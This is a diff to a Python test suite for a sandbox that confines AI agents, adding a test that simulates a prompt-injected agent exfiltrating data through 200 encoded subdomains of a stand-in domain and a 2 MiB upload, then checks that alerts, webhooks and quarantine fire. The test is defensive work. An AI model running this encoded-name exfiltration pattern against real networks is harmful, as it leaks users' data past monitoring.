@@ -88,7 +88,12 @@ AUDIT_WAIT_S = 3
 STATS_KEYS = ["workers", "conns", "accepted", "refused_overload", "requests", "denied",
               "splice_relays", "copy_relays", "upstreams_reused", "leaf_hits", "leaf_misses",
               "leaf_mints", "audit_written", "audit_dropped", "misdirected", "audit_lost",
-              "audit_failing"]
+              "audit_failing", "webhook_delivered", "webhook_failed", "webhook_dropped"]
+# The alert webhook's Authorization value (daemon.alert_webhook.authorization_file).
+WEBHOOK_AUTHORIZATION = "Bearer it-webhook-token-7f3a"
+# Encoded names one exfiltration attempt asks for, and how soon its alert must be out.
+EXFIL_NAMES = 200
+ALERT_WITHIN_S = 5
 STATS_PUBLISH_S = 0.1
 STATS_MARGIN_S = 0.9
 DOWN_ERROR_S = 5  # the agent's request after the daemon stopped fails within this
@@ -1951,6 +1956,109 @@ class Tests(ContainmentTests, HostBoundaryTests, Pass):
                    "nothing; redirect_denied, 413 body_too_large, a WebSocket upgrade; the "
                    "secret in no response, audit or log", inject)
 
+    def t_exfiltration(self):
+        """A prompt-injected exfiltration from inside `agentsnet run` (issue 21): the agent
+        asks for EXFIL_NAMES encoded subdomains of a refused domain, then POSTs 2 MiB to its
+        allowed host. Profile watched: one refused_names alert and one upload alert, each
+        an "alert" audit record and a webhook POST (the Authorization of the policy's file,
+        the alert's JSON; the receiver's 503 to each first try is tried again) within
+        ALERT_WITHIN_S of the attempt's start, and no other alert. Profile
+        watched-quarantine: the encoded names quarantine the sandbox, and the upload is
+        refused 403 quarantined in-band."""
+        def hook_posts(sandbox):
+            path = os.path.join(self.vars["tmp"], "webhook.log")
+            if not os.path.exists(path):
+                return []
+            docs = [json.loads(x) for x in read_text(path).splitlines() if x.strip()]
+            return [d for d in docs
+                    if isinstance(d.get("body"), dict) and d["body"].get("sandbox") == sandbox]
+
+        def alerts_of(sandbox):
+            records, _ = read_audit(self.vars["audit"])
+            return [r for r in records if r.get("event") == "alert" and
+                    r.get("sandbox") == sandbox]
+
+        def attempt(profile, want_upload):
+            script = ("i=0; while [ $i -lt %d ]; do "
+                      "curl -sS --max-time 5 -o /dev/null -w '%%{http_code}\\n' "
+                      "http://$(printf %%08x $((i * 2654435761 %% 4294967296))).exfil.example/; "
+                      "i=$((i+1)); done | sort | uniq -c; "
+                      "head -c 2097152 /dev/zero | "
+                      "curl -sS --max-time 15 -o /dev/null -D - -w 'upload %%{http_code}\\n' "
+                      "--data-binary @- http://origin.test:%d/echo" % (
+                          EXFIL_NAMES, self.vars["http_port"]))
+            t0 = time.time()
+            a = self.agent(["sh", "-c", script], run_args=["--profile", profile])
+            errs = self.leftovers(a)
+            if a.rc != 0 or ("%d 403" % EXFIL_NAMES) not in a.stdout():
+                errs.append("%s: the agent exited %s; out %r err %r" % (
+                    profile, a.rc, a.stdout()[-600:], a.stderr()[-600:]))
+            upload = "upload 200" if want_upload else "upload 403"
+            if upload not in a.stdout():
+                errs.append("%s: want %r: %r" % (profile, upload, a.stdout()[-600:]))
+            return a, t0, errs
+
+        def detectors(records):
+            return sorted(r.get("rule") or r.get("detector") for r in records)
+
+        def exfiltration():
+            a, t0, errs = attempt("watched", True)
+            want = ["refused_names", "upload"]
+            deadline = t0 + ALERT_WITHIN_S + 5
+            while time.time() < deadline and (
+                    detectors(alerts_of(a.sandbox)) != want or
+                    sorted({p["body"]["detector"] for p in hook_posts(a.sandbox)
+                            if p["answered"] == 204}) != want):
+                time.sleep(0.1)
+            time.sleep(1)  # anything more would have come by now
+            records, posts = alerts_of(a.sandbox), hook_posts(a.sandbox)
+            log("# exfiltration: alert records %r; webhook posts %r" % (
+                [(r.get("detector"), r.get("ts")) for r in records],
+                [(p["body"]["detector"], p["answered"], round(p["t"] - t0, 2))
+                 for p in posts]))
+            if detectors(records) != want:
+                errs.append("alert records of %s: %r, want one of each of %r" % (
+                    a.sandbox, detectors(records), want))
+            delivered = [p for p in posts if p["answered"] == 204]
+            if sorted(p["body"]["detector"] for p in delivered) != want:
+                errs.append("webhook deliveries: %r, want one of each of %r" % (
+                    [(p["body"]["detector"], p["answered"]) for p in posts], want))
+            late = [p for p in delivered if p["t"] - t0 > ALERT_WITHIN_S + a.secs]
+            if late:
+                errs.append("webhook deliveries later than %d s after the attempt: %r" % (
+                    ALERT_WITHIN_S, [(p["body"]["detector"], p["t"] - t0) for p in late]))
+            for p in posts:
+                if p["authorization"] != WEBHOOK_AUTHORIZATION or \
+                        p["content_type"] != "application/json":
+                    errs.append("a webhook POST carried Authorization %r, Content-Type %r" % (
+                        p["authorization"], p["content_type"]))
+            names = [p for p in delivered if p["body"]["detector"] == "refused_names"]
+            if names and (names[0]["body"].get("suffix") != "exfil.example" or
+                          names[0]["body"].get("action") != "none"):
+                errs.append("the refused_names alert: %r" % names[0]["body"])
+            stats, _ = self.stats()
+            if stats.get("webhook_delivered", 0) < 2 or stats.get("webhook_failed", 0) != 0:
+                errs.append("stats: webhook_delivered %r webhook_failed %r" % (
+                    stats.get("webhook_delivered"), stats.get("webhook_failed")))
+            # Again, quarantining: the upload is refused in-band.
+            q, t1, more = attempt("watched-quarantine", False)
+            errs += more
+            if "x-agent-reason: quarantined" not in q.stdout().lower():
+                errs.append("the quarantined upload's answer: %r" % q.stdout()[-600:])
+            while time.time() < t1 + ALERT_WITHIN_S + q.secs and not [
+                    p for p in hook_posts(q.sandbox) if p["answered"] == 204]:
+                time.sleep(0.1)
+            quarantined = [p["body"] for p in hook_posts(q.sandbox) if p["answered"] == 204]
+            if [(b["detector"], b["action"]) for b in quarantined] != [
+                    ("refused_names", "quarantine")]:
+                errs.append("the quarantining attempt's webhook deliveries: %r" % quarantined)
+            return errs
+
+        self.timed("an exfiltration attempt from inside agentsnet run (%d encoded names, then "
+                   "a 2 MiB upload): one alert a detector, audited and delivered to the "
+                   "webhook within %d s through a 503; with quarantine the upload is refused "
+                   "in-band" % (EXFIL_NAMES, ALERT_WITHIN_S), exfiltration)
+
     def t_misdirected(self):
         """A placeholder sent where its rule does not send it (issue 17 item 7): the
         default profile's inject placeholder in a header or the query of a plain request to
@@ -3126,7 +3234,7 @@ TESTS = ["detector", "exit_status", "stdio", "signals", "orphans", "killed", "de
          "unprivileged", "identity", "limits", "rule_limits", "fake", "inject", "agent_cli",
          "agent_cli_claude", "agent_cli_codex", "agent_cli_gemini",
          "density", "daemon_restart", "upgrade", "daemon_stopped", "ingress", "stats", "env", "pty",
-         "selftest", "dir_race", "dir_leftover", "second_account", "egress_owner", "own_uid", "peer_check", "revoke", "run_cgroup", "socket_flood", "late_socket", "root_races", "proc_host_wide", "misdirected"]
+         "selftest", "dir_race", "dir_leftover", "second_account", "egress_owner", "own_uid", "peer_check", "revoke", "run_cgroup", "socket_flood", "late_socket", "root_races", "proc_host_wide", "misdirected", "exfiltration"]
 
 
 def preflight(args):
@@ -3240,6 +3348,10 @@ class Setup:
                          0o600)
         with open(secret, "w", encoding="ascii") as f:
             f.write(INJECT_SECRET + "\n")
+        hook = os.open(os.path.join(t.tmp, "webhook.auth"), os.O_WRONLY | os.O_CREAT |
+                       os.O_EXCL, 0o600)
+        with open(hook, "w", encoding="ascii") as f:
+            f.write(WEBHOOK_AUTHORIZATION + "\n")
         with open(leaf_pem, encoding="ascii") as f:
             t.vars["leaf_sha256"] = hashlib.sha256(
                 ssl.PEM_cert_to_DER_cert(f.read())).hexdigest()
